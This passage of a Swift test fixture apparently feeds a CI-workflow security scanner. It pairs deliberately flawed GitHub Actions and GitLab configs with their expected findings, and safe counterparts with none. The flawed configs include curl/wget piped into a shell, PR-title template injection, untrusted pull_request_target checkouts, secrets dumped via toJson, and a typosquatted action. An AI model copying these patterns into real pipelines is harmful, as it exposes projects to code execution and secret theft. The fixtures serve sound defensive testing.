              - run: sh -c "$(wget -qO- https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"
        """#),
    RedTeamFile(
        name: "weak/adhoc-installs.yml", path: ".github/workflows/ml-tests.yml",
        expected: ["workflow-unlocked-install"],
        text: #"""
        name: ML tests
        on: [push]
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: pip install git+https://github.com/huggingface/transformers
              - run: uv pip install torch accelerate
              - run: yarn install
        """#),
    RedTeamFile(
        name: "weak/model-downloads-python.yml", path: ".github/workflows/quantize.yml",
        expected: ["workflow-unpinned-model-download"],
        text: #"""
        name: Quantize
        on: [workflow_dispatch]
        permissions:
          contents: read
        jobs:
          q:
            runs-on: ubuntu-latest
            steps:
              - run: wget https://huggingface.co/TheBloke/Llama-2-7B-GGUF/resolve/main/llama-2-7b.Q4_K_M.gguf
              - run: python -c "from transformers import AutoTokenizer; AutoTokenizer.from_pretrained('meta-llama/Llama-2-7b-hf')"
        """#),
    RedTeamFile(
        name: "weak/unsound-two-fences.yml", path: ".github/workflows/publish-docs.yml",
        expected: ["workflow-unsound-condition"],
        text: #"""
        name: Publish docs
        on: [push, pull_request]
        permissions:
          contents: read
        jobs:
          publish:
            if: ${{ github.event_name == 'push' }} && ${{ github.ref == 'refs/heads/main' }}
            runs-on: ubuntu-latest
            steps:
              - run: make publish-docs
        """#),
    RedTeamFile(
        name: "weak/unsound-contains-head-ref.yml", path: ".github/workflows/branch-deploy.yml",
        expected: ["workflow-unsound-contains"],
        text: #"""
        name: Branch deploy
        on: [pull_request]
        permissions:
          contents: read
        jobs:
          deploy:
            if: contains('main,release,hotfix', github.head_ref)
            runs-on: ubuntu-latest
            steps:
              - run: ./deploy.sh
        """#),
    RedTeamFile(
        name: "weak/issues-no-permissions.yml", path: ".github/workflows/issue-labeler.yml",
        expected: ["workflow-excessive-permissions"],
        text: #"""
        name: Issue labeler
        on:
          issues:
            types: [opened, edited]
        jobs:
          label:
            runs-on: ubuntu-latest
            steps:
              - uses: github/issue-labeler@c1b0f9f52a63158c4adc09425e858e87b32e9685 # v3.4
                with:
                  configuration-path: .github/labeler.yml
                  repo-token: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "weak/run-gemini-cli-comment.yml", path: ".github/workflows/gemini-dispatch.yml",
        expected: ["workflow-ai-agent-untrusted-trigger", "workflow-dangerous-trigger"],
        text: #"""
        name: Gemini dispatch
        on:
          issue_comment:
            types: [created]
        permissions: {}
        jobs:
          gemini:
            if: startsWith(github.event.comment.body, '@gemini-cli')
            runs-on: ubuntu-latest
            permissions:
              contents: read
              issues: write
            steps:
              - uses: google-github-actions/run-gemini-cli@a3bf79042542528e91937b3a3a6fbc4967ee3c31 # v0.1.12
                with:
                  gemini_api_key: ${{ secrets.GEMINI_API_KEY }}
                  prompt: Answer the comment on issue ${{ github.event.issue.number }}
        """#),
    RedTeamFile(
        name: "weak/runner-debug.yml", path: ".github/workflows/flaky.yml",
        expected: ["workflow-step-debug-forced"],
        text: #"""
        name: Flaky
        on: [push]
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            env:
              ACTIONS_RUNNER_DEBUG: "true"
              ACTIONS_STEP_DEBUG: "true"
            steps:
              - run: make test
        """#),
    RedTeamFile(
        name: "weak/services-credentials.yml", path: ".github/workflows/private-db.yml",
        expected: ["workflow-hardcoded-container-credentials"],
        text: #"""
        name: Private DB
        on: [push]
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            services:
              db:
                image: registry.example.com/db/postgres@sha256:5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d
                credentials:
                  username: puller
                  password: "pull-token-8f7e6d"
            steps:
              - run: make db-test
        """#),
    RedTeamFile(
        name: "weak/crates-twine-tokens.yml", path: ".github/workflows/publish-all.yml",
        expected: ["workflow-long-lived-publish-token"],
        text: #"""
        name: Publish all
        on:
          release:
            types: [published]
        permissions:
          contents: read
        jobs:
          crates:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: cargo publish --locked --token ${{ secrets.CRATES_IO_TOKEN }}
              - run: python -m twine upload -u __token__ -p "$PYPI_TOKEN" dist/*
                env:
                  PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/setup-go-default-cache-release.yml", path: ".github/workflows/release-go.yml",
        expected: ["workflow-cache-poisoning"],
        text: #"""
        name: Release Go
        on:
          push:
            tags: ["v*"]
        permissions: {}
        jobs:
          release:
            runs-on: ubuntu-latest
            permissions:
              contents: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  fetch-depth: 0
                  persist-credentials: false
              - uses: actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0
                with:
                  go-version-file: go.mod
              - uses: goreleaser/goreleaser-action@9c156ee8a17a598857849441385a2041ef570552 # v6.3.0
                with:
                  args: release --clean
                env:
                  GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/unredacted-private-key.yml", path: ".github/workflows/gcp.yml",
        expected: ["workflow-unredacted-secrets"],
        text: #"""
        name: GCP
        on: [push]
        permissions:
          contents: read
        jobs:
          deploy:
            runs-on: ubuntu-latest
            steps:
              - run: echo "$KEY" > key.pem && ./deploy.sh
                env:
                  KEY: ${{ fromJson(secrets.GCP_SERVICE_ACCOUNT).private_key }}
        """#),
    RedTeamFile(
        name: "weak/tojson-secrets-with.yml", path: ".github/workflows/vault-sync.yml",
        expected: ["workflow-overprovisioned-secrets"],
        text: #"""
        name: Vault sync
        on: [workflow_dispatch]
        permissions:
          contents: read
        jobs:
          sync:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
                env:
                  SECRETS_CONTEXT: ${{ toJson(secrets) }}
                with:
                  script: |
                    const all = JSON.parse(process.env.SECRETS_CONTEXT);
                    core.info(Object.keys(all).join(','));
        """#),
    RedTeamFile(
        name: "weak/tj-actions-last-bad-tag.yml", path: ".github/workflows/changed-files.yml",
        expected: ["workflow-known-compromised-action", "workflow-unpinned-action"],
        text: #"""
        name: Changed files
        on: [pull_request]
        permissions:
          contents: read
        jobs:
          changed:
            runs-on: ubuntu-latest
            steps:
              - uses: tj-actions/changed-files@v45.0.7
                id: changed
              - run: echo "$FILES"
                env:
                  FILES: ${{ steps.changed.outputs.all_changed_files }}
        """#),
    RedTeamFile(
        name: "weak/typosquat-missing-s.yml", path: ".github/workflows/py.yml",
        expected: ["workflow-typosquatted-action", "workflow-unpinned-action"],
        text: #"""
        name: Py
        on: [push]
        permissions:
          contents: read
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - uses: action/setup-python@v5
                with:
                  python-version: "3.12"
        """#),
    RedTeamFile(
        name: "weak/gitlab-tag-includes.yml", path: ".gitlab/ci/build.yml",
        expected: ["workflow-gitlab-unpinned-include", "workflow-unpinned-image"],
        text: #"""
        include:
          - project: platform/ci-catalog
            ref: main
            file: /build.yml
          - component: gitlab.com/platform/components/docker-build@~latest
        build:
          image: node:latest
          script:
            - npm ci
            - npm run build
        """#),
    RedTeamFile(
        name: "weak/dependabot-registries-allow.yml", path: ".github/dependabot.yml",
        expected: ["workflow-dependabot-insecure-execution"],
        text: #"""
        version: 2
        registries:
          npm-internal:
            type: npm-registry
            url: https://npm.internal.example.com
            token: ${{ secrets.NPM_INTERNAL_TOKEN }}
        updates:
          - package-ecosystem: npm
            directory: "/"
            registries: [npm-internal]
            insecure-external-code-execution: allow
            schedule:
              interval: weekly
            cooldown:
              default-days: 7
        """#),
    RedTeamFile(
        name: "weak/issue-comment-step-output-ref.yml", path: ".github/workflows/ok-to-test.yml",
        expected: ["workflow-untrusted-checkout", "workflow-dangerous-trigger"],
        text: #"""
        name: ok-to-test
        on:
          issue_comment:
            types: [created]
        permissions: {}
        jobs:
          test:
            if: github.event.issue.pull_request && contains(github.event.comment.body, '/ok-to-test')
            runs-on: ubuntu-latest
            permissions:
              contents: read
              statuses: write
            steps:
              - id: comment-branch
                uses: xt0rted/pull-request-comment-branch@e8b8daa837e8ea7331c0003c9c316a64c6d8b0b1 # v3.0.0
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  ref: ${{ steps.comment-branch.outputs.head_sha }}
                  persist-credentials: false
              - run: make integration-test
                env:
                  CLOUD_TOKEN: ${{ secrets.CLOUD_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/workflow-run-head-repo-checkout.yml", path: ".github/workflows/sonar.yml",
        expected: ["workflow-untrusted-checkout", "workflow-dangerous-trigger"],
        text: #"""
        name: Sonar
        on:
          workflow_run:
            workflows: [Build]
            types: [completed]
        permissions: {}
        jobs:
          sonar:
            runs-on: ubuntu-latest
            permissions:
              contents: read
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  repository: ${{ github.event.workflow_run.head_repository.full_name }}
                  ref: ${{ github.event.workflow_run.head_branch }}
                  persist-credentials: false
              - run: ./gradlew sonar
                env:
                  SONAR_TOKEN: ${{ secrets.SONAR_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/prt-git-fetch-pr.yml", path: ".github/workflows/docs-build.yml",
        expected: ["workflow-untrusted-checkout", "workflow-dangerous-trigger"],
        text: #"""
        name: Docs build
        on: pull_request_target
        permissions: {}
        jobs:
          docs:
            runs-on: ubuntu-latest
            permissions:
              contents: read
              pull-requests: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: |
                  git fetch origin pull/${{ github.event.pull_request.number }}/head:pr
                  git checkout pr
                  make docs
                env:
                  DOCS_DEPLOY_KEY: ${{ secrets.DOCS_DEPLOY_KEY }}
        """#),
    RedTeamFile(
        name: "weak/self-hosted-issue-comment.yml", path: ".github/workflows/hw-test.yml",
        expected: ["workflow-self-hosted-runner", "workflow-dangerous-trigger"],
        text: #"""
        name: Hardware test
        on:
          issue_comment:
            types: [created]
        permissions: {}
        jobs:
          hw:
            if: contains(github.event.comment.body, '/hw-test')
            runs-on: [self-hosted, fpga]
            permissions:
              contents: read
            steps:
              - run: ./run-hw-tests.sh
        """#),
    RedTeamFile(
        name: "weak/golangci-install-pipe.yml", path: ".github/workflows/golint.yml",
        expected: ["workflow-curl-pipe-shell"],
        text: #"""
        name: golint
        on: [push]
        permissions:
          contents: read
        jobs:
          lint:
            runs-on: ubuntu-latest
            steps:
              - run: curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.59.1
        """#),
    RedTeamFile(
        name: "weak/bot-triggering-actor.yml", path: ".github/workflows/auto-approve.yml",
        expected: ["workflow-bot-condition", "workflow-dangerous-trigger"],
        text: #"""
        name: Auto approve
        on: pull_request_target
        permissions: {}
        jobs:
          approve:
            if: github.triggering_actor == 'renovate[bot]' || github.actor == 'dependabot[bot]'
            runs-on: ubuntu-latest
            permissions:
              pull-requests: write
            steps:
              - run: gh pr review --approve "$URL"
                env:
                  URL: ${{ github.event.pull_request.html_url }}
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "weak/pull-request-title-run.yml", path: ".github/workflows/semantic.yml",
        expected: ["workflow-template-injection"],
        text: #"""
        name: Semantic PR
        on:
          pull_request:
            types: [opened, edited]
        permissions:
          contents: read
        jobs:
          check:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  if [[ ! "${{ github.event.pull_request.title }}" =~ ^(feat|fix|docs|chore): ]]; then exit 1; fi
        """#),
    RedTeamFile(
        name: "weak/dependabot-mixed-cooldown.yml", path: ".github/dependabot.yml",
        expected: ["workflow-dependabot-cooldown"],
        text: #"""
        version: 2
        updates:
          - package-ecosystem: npm
            directory: "/"
            schedule:
              interval: weekly
            cooldown:
              default-days: 7
          - package-ecosystem: docker
            directory: "/"
            schedule:
              interval: weekly
        """#),
    RedTeamFile(
        name: "weak/process-substitution-python.yml", path: ".github/workflows/bootstrap.yml",
        expected: ["workflow-curl-pipe-shell"],
        text: #"""
        name: Bootstrap
        on: [push]
        permissions:
          contents: read
        jobs:
          b:
            runs-on: ubuntu-latest
            steps:
              - run: python3 <(curl -sSL https://bootstrap.pypa.io/get-pip.py)
              - run: wget -O - https://get.example.sh | bash -s -- --version 1.2
        """#),
    RedTeamFile(
        name: "clean/prt-label-gated-base.yml", path: ".github/workflows/size-label.yml",
        expected: [],
        text: #"""
        name: Size label
        on:
          pull_request_target:
            types: [labeled, synchronize]
        permissions: {}
        jobs:
          size:
            if: contains(github.event.pull_request.labels.*.name, 'needs-size')
            runs-on: ubuntu-latest
            permissions:
              contents: read
              pull-requests: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: ./scripts/size-label.sh "$PR"
                env:
                  PR: ${{ github.event.pull_request.number }}
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "clean/safe-contexts.yml", path: ".github/workflows/diff.yml",
        expected: [],
        text: #"""
        name: Diff check
        on:
          pull_request:
        permissions:
          contents: read
        jobs:
          diff:
            runs-on: ${{ matrix.os }}
            strategy:
              matrix:
                os: [ubuntu-latest, macos-latest]
                python: ["3.11", "3.12"]
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  fetch-depth: 0
                  persist-credentials: false
              - id: lint
                continue-on-error: true
                run: git diff --name-only ${{ github.event.pull_request.base.sha }}...${{ github.event.pull_request.head.sha }}
              - run: echo "lint ${{ steps.lint.outcome }} on ${{ runner.os }} py${{ matrix.python }} run ${{ github.run_id }} sha ${{ github.sha }} commits ${{ github.event.pull_request.commits }}"
              - run: echo "status ${{ job.status }} conclusion ${{ steps.lint.conclusion }} pr ${{ github.event.pull_request.number }}"
        """#),
    RedTeamFile(
        name: "clean/literal-ternaries.yml", path: ".github/workflows/deploy-env.yml",
        expected: [],
        text: #"""
        name: Deploy env
        on:
          push:
            branches: [main, staging]
          workflow_dispatch:
            inputs:
              dry-run:
                type: boolean
                default: false
              environment:
                type: choice
                options: [staging, production]
        permissions:
          contents: read
        jobs:
          deploy:
            runs-on: ubuntu-latest
            steps:
              - run: ./deploy.sh --env ${{ github.ref == 'refs/heads/main' && 'production' || 'staging' }} ${{ inputs.dry-run && '--dry-run' || '' }}
              - run: echo "target ${{ inputs.environment }}"
        """#),
    RedTeamFile(
        name: "clean/pinned-with-comments.yml", path: ".github/workflows/ci.yml",
        expected: [],
        text: #"""
        name: CI
        on:
          push:
            branches: [main]
          pull_request:
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0
                with:
                  python-version: "3.12"
                  cache: pip
              - run: pip install --require-hashes -r requirements-dev.txt
              - run: pytest -q
              - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
                with:
                  name: junit
                  path: reports/junit.xml
        """#),
    RedTeamFile(
        name: "clean/empty-workflow-perms-job-write.yml", path: ".github/workflows/release-notes.yml",
        expected: [],
        text: #"""
        name: Release notes
        on:
          push:
            tags: ["v*"]
        permissions: {}
        jobs:
          notes:
            runs-on: ubuntu-latest
            permissions:
              contents: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: softprops/action-gh-release@da05d552573ad5aba039eaac05058a918a7bf631 # v2.2.2
                with:
                  generate_release_notes: true
        """#),
    RedTeamFile(
        name: "clean/reusable-explicit-secrets.yml", path: ".github/workflows/call-publish.yml",
        // `uses: ./...` of a reusable workflow: low, true by definition (GitHub's SHA-pin policy).
        expected: ["workflow-self-repository-ref"],
        text: #"""
        name: Call publish
        on:
          push:
            branches: [main]
        permissions:
          contents: read
        jobs:
          publish:
            uses: ./.github/workflows/publish-reusable.yml
            with:
              environment: production
            secrets:
              registry-token: ${{ secrets.REGISTRY_TOKEN }}
        """#),
    RedTeamFile(
        name: "clean/dependabot-cooldown.yml", path: ".github/dependabot.yml",
        expected: [],
        text: #"""
        version: 2
        updates:
          - package-ecosystem: npm
            directory: "/"
            schedule:
              interval: weekly
            cooldown:
              default-days: 7
          - package-ecosystem: github-actions
            directory: "/"
            schedule:
              interval: weekly
            cooldown:
              default-days: 5
        """#),
    RedTeamFile(
        name: "clean/gitlab-pinned.yml", path: ".gitlab-ci.yml",
        expected: [],
        text: #"""
        include:
          - local: /ci/lint.yml
          - project: acme/ci-templates
            ref: 5f0c3e7a9d1b2c4e6f8a0b1c3d5e7f9a1b2c4d6e
            file: /templates/python.yml
          - component: gitlab.com/acme/components/sast@3b2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f
        image: python:3.12-slim@sha256:0f7b4f2a6b7b3c1f2e5d9a8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a
        test:
          script:
            - pip install --require-hashes -r requirements.txt
            - pytest
        build:
          image: node:20@sha256:1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809
          script:
            - npm ci
            - npm run build
        """#),
    RedTeamFile(
        name: "clean/lockfile-installs.yml", path: ".github/workflows/build.yml",
        expected: [],
        text: #"""
        name: Build
        on: [push, pull_request]
        permissions:
          contents: read
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: npm ci
              - run: pnpm install --frozen-lockfile
              - run: yarn install --immutable
              - run: uv sync --locked
              - run: pip install --require-hashes -r requirements.lock
              - run: cargo install --locked cargo-deny
              - run: go install golang.org/x/vuln/cmd/govulncheck@v1.1.4
        """#),
    RedTeamFile(
        name: "clean/pypi-trusted-publishing.yml", path: ".github/workflows/publish.yml",
        expected: [],
        text: #"""
        name: Publish
        on:
          release:
            types: [published]
        permissions: {}
        jobs:
          build:
            runs-on: ubuntu-latest
            permissions:
              contents: read
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0
                with:
                  python-version: "3.12"
              - run: pipx run build
              - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
                with:
                  name: dist
                  path: dist/
          publish:
            needs: build
            runs-on: ubuntu-latest
            environment: pypi
            permissions:
              id-token: write
            steps:
              - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8
                with:
                  name: dist
                  path: dist/
              - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc # v1.12.4
        """#),
    RedTeamFile(
        name: "clean/npm-provenance.yml", path: ".github/workflows/npm-publish.yml",
        expected: [],
        text: #"""
        name: npm publish
        on:
          push:
            tags: ["v*"]
        permissions: {}
        jobs:
          publish:
            runs-on: ubuntu-latest
            permissions:
              contents: read
              id-token: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0
                with:
                  node-version: 22
                  registry-url: https://registry.npmjs.org
              - run: npm ci --ignore-scripts
              - run: npm publish --provenance --access public
        """#),
    RedTeamFile(
        name: "clean/workflow-run-status.yml", path: ".github/workflows/notify-status.yml",
        expected: [],
        text: #"""
        name: Notify status
        on:
          workflow_run:
            workflows: [CI]
            types: [completed]
        permissions: {}
        jobs:
          notify:
            if: github.event.workflow_run.conclusion == 'failure'
            runs-on: ubuntu-latest
            permissions:
              issues: write
            steps:
              - run: gh issue create --title "CI failed on $SHA" --body "Run $RUN_ID failed" --repo "$REPO"
                env:
                  SHA: ${{ github.event.workflow_run.head_sha }}
                  RUN_ID: ${{ github.event.workflow_run.id }}
                  REPO: ${{ github.repository }}
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "clean/issue-title-via-env.yml", path: ".github/workflows/issue-echo.yml",
        expected: [],
        text: #"""
        name: Issue intake
        on:
          issues:
            types: [opened]
        permissions: {}
        jobs:
          intake:
            runs-on: ubuntu-latest
            permissions:
              issues: write
            steps:
              - run: |
                  printf 'New issue: %s\n' "$TITLE"
                  gh issue edit "$NUMBER" --add-label needs-triage
                env:
                  TITLE: ${{ github.event.issue.title }}
                  NUMBER: ${{ github.event.issue.number }}
                  GH_TOKEN: ${{ github.token }}
                  GH_REPO: ${{ github.repository }}
        """#),
    RedTeamFile(
        name: "clean/self-hosted-dispatch.yml", path: ".github/workflows/benchmarks.yml",
        expected: [],
        text: #"""
        name: Benchmarks
        on:
          workflow_dispatch:
          push:
            branches: [main]
          schedule:
            - cron: "0 2 * * 1"
        permissions:
          contents: read
        jobs:
          bench:
            runs-on: [self-hosted, linux, x64, bench]
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: make bench
        """#),
    RedTeamFile(
        name: "clean/container-digest-services.yml", path: ".github/workflows/db-tests.yml",
        expected: [],
        text: #"""
        name: DB tests
        on: [pull_request]
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            container:
              image: ghcr.io/acme/ci-python@sha256:4c1e3b2a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c
              credentials:
                username: ${{ github.actor }}
                password: ${{ secrets.GITHUB_TOKEN }}
            services:
              postgres:
                image: postgres@sha256:9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e
                env:
                  POSTGRES_PASSWORD: postgres
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: pytest tests/db
        """#),
    RedTeamFile(
        name: "clean/goreleaser-cosign.yml", path: ".github/workflows/goreleaser.yml",
        expected: [],
        text: #"""
        name: goreleaser
        on:
          push:
            tags: ["v*"]
        permissions: {}
        jobs:
          release:
            runs-on: ubuntu-latest
            permissions:
              contents: write
              id-token: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  fetch-depth: 0
                  persist-credentials: false
              - uses: actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0
                with:
                  go-version-file: go.mod
                  cache: false
              - uses: sigstore/cosign-installer@3454372f43399081ed03b604cb2d021dabca52bb # v3.8.2
              - uses: goreleaser/goreleaser-action@9c156ee8a17a598857849441385a2041ef570552 # v6.3.0
                with:
                  args: release --clean
                env:
                  GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}
        """#),
    RedTeamFile(
        name: "clean/hf-pinned-revisions.yml", path: ".github/workflows/model-smoke.yml",
        expected: [],
        text: #"""
        name: Model smoke test
        on: [push]
        permissions:
          contents: read
        jobs:
          smoke:
            runs-on: ubuntu-latest
            steps:
              - run: huggingface-cli download openai-community/gpt2 --revision 607a30d783dfa663caf39e06633721c8d4cfcd7e --local-dir ./gpt2
              - run: |
                  python - <<'EOF2'
                  from huggingface_hub import snapshot_download
                  from transformers import AutoModel
                  path = snapshot_download("openai-community/gpt2", revision="607a30d783dfa663caf39e06633721c8d4cfcd7e")
                  model = AutoModel.from_pretrained("openai-community/gpt2", revision="607a30d783dfa663caf39e06633721c8d4cfcd7e")
                  EOF2
        """#),
    RedTeamFile(
        name: "clean/checksum-verified-download.yml", path: ".github/workflows/install-tool.yml",
        expected: [],
        text: #"""
        name: Install tool
        on: [push]
        permissions:
          contents: read
        jobs:
          tool:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  curl -fsSLo hadolint https://github.com/hadolint/hadolint/releases/download/v2.12.0/hadolint-Linux-x86_64
                  echo "56de6d5e5ec427e17b74fa48d51271c7fc0d61244bf5c90e828aab8362d55010  hadolint" | sha256sum --check
                  chmod +x hadolint && ./hadolint Dockerfile
        """#),
    RedTeamFile(
        name: "clean/composite-inputs-env.yml", path: ".github/actions/setup-tool/action.yml",
        expected: [],
        text: #"""
        name: Setup tool
        description: Installs the tool at a given version
        inputs:
          version:
            description: Tool version
            required: true
        runs:
          using: composite
          steps:
            - shell: bash
              run: "${{ github.action_path }}/install.sh"
              env:
                TOOL_VERSION: ${{ inputs.version }}
            - shell: bash
              run: echo "${{ github.action_path }}/bin" >> "$GITHUB_PATH"
        """#),
    RedTeamFile(
        name: "clean/reusable-build-push-context.yml", path: ".github/workflows/docker-reusable.yml",
        expected: [],
        text: #"""
        name: Docker build
        on:
          workflow_call:
            inputs:
              context:
                type: string
                default: "."
        permissions: {}
        jobs:
          build:
            runs-on: ubuntu-latest
            permissions:
              contents: read
              packages: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83 # v6.18.0
                with:
                  context: ${{ inputs.context }}
                  push: true
                  tags: ghcr.io/${{ github.repository }}:${{ github.sha }}
        """#),
    RedTeamFile(
        name: "clean/array-contains-labels.yml", path: ".github/workflows/docs-preview.yml",
        expected: [],
        text: #"""
        name: Docs preview
        on:
          pull_request:
            types: [labeled, synchronize]
        permissions:
          contents: read
        jobs:
          preview:
            if: ${{ contains(github.event.pull_request.labels.*.name, 'docs') && github.event.pull_request.head.repo.full_name == github.repository }}
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: make docs
        """#),
    RedTeamFile(
        name: "clean/dependabot-automerge-metadata.yml", path: ".github/workflows/dependabot-automerge.yml",
        expected: [],
        text: #"""
        name: Dependabot auto-merge
        on: pull_request
        permissions: {}
        jobs:
          automerge:
            if: github.event.pull_request.user.login == 'dependabot[bot]' && github.repository == 'acme/api'
            runs-on: ubuntu-latest
            permissions:
              contents: write
              pull-requests: write
            steps:
              - id: meta
                uses: dependabot/fetch-metadata@d7267f607e9d3fb96fc2fbe83e0af444713e90b7 # v2.3.0
              - if: steps.meta.outputs.update-type == 'version-update:semver-patch'
                run: gh pr merge --auto --squash "$PR_URL"
                env:
                  PR_URL: ${{ github.event.pull_request.html_url }}
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "clean/claude-gated-association.yml", path: ".github/workflows/claude-mention.yml",
        expected: [],
        text: #"""
        name: Claude mention
        on:
          issue_comment:
            types: [created]
        permissions: {}
        jobs:
          claude:
            if: |
              contains(github.event.comment.body, '@claude') &&
              contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.comment.author_association)
            runs-on: ubuntu-latest
            permissions:
              contents: read
              issues: write
              pull-requests: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: anthropics/claude-code-action@8a953dedf2e2ffb2a0ba3e47b5f6bc3dcdf30b40 # v1.0.3
                with:
                  anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}
        """#),
    RedTeamFile(
        name: "clean/github-env-constants.yml", path: ".github/workflows/env-setup.yml",
        expected: [],
        text: #"""
        name: Env setup
        on: pull_request_target
        permissions: {}
        jobs:
          setup:
            runs-on: ubuntu-latest
            permissions:
              pull-requests: write
            steps:
              - run: |
                  echo "NODE_OPTIONS=--max-old-space-size=4096" >> "$GITHUB_ENV"
                  echo "PR_NUMBER=${{ github.event.pull_request.number }}" >> "$GITHUB_ENV"
                  echo "$HOME/.local/bin" >> "$GITHUB_PATH"
              - run: gh pr edit "$PR_NUMBER" --add-label triaged --repo "$GITHUB_REPOSITORY"
                env:
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "clean/aws-oidc-deploy.yml", path: ".github/workflows/aws-deploy.yml",
        expected: [],
        text: #"""
        name: AWS deploy
        on:
          push:
            branches: [main]
        permissions: {}
        jobs:
          deploy:
            runs-on: ubuntu-latest
            environment: production
            permissions:
              contents: read
              id-token: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502 # v4.0.2
                with:
                  role-to-assume: arn:aws:iam::123456789012:role/deploy
                  aws-region: us-east-1
              - run: aws s3 sync ./site s3://acme-site
        """#),
    RedTeamFile(
        name: "clean/if-single-expression.yml", path: ".github/workflows/conditional.yml",
        expected: [],
        text: #"""
        name: Conditional
        on: [push, pull_request]
        permissions:
          contents: read
        jobs:
          deploy:
            if: ${{ github.event_name == 'push' && github.ref == 'refs/heads/main' }}
            runs-on: ubuntu-latest
            steps:
